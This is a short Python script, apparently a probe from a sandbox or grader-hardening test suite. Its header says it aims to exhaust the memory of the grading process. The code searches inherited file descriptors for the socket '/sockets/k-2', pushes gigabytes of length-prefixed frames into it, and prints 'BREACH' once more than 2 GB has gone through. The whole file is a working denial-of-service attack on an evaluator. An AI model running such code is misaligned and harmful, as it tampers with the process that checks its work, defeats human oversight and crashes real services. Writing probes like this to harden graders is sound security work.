# tries: fill the memory of the process that grades with one message of endless parts
# apart: yes
import os
import socket
import stat
import struct

BODY = b"x" * 8_000_000
FRAME = b"\x03" + struct.pack(">Q", len(BODY)) + BODY
sent = 0
for number in range(3, 512):
    try:
        if not stat.S_ISSOCK(os.fstat(number).st_mode):
            continue
        line = socket.socket(fileno=os.dup(number))
        if line.getsockname() == "/sockets/k-2":
            line.setblocking(True)
            while sent < 5_000_000_000:
                line.sendall(FRAME)
                sent += len(BODY)
    except OSError:
        continue
print("BREACH sent", sent) if sent > 2_000_000_000 else None
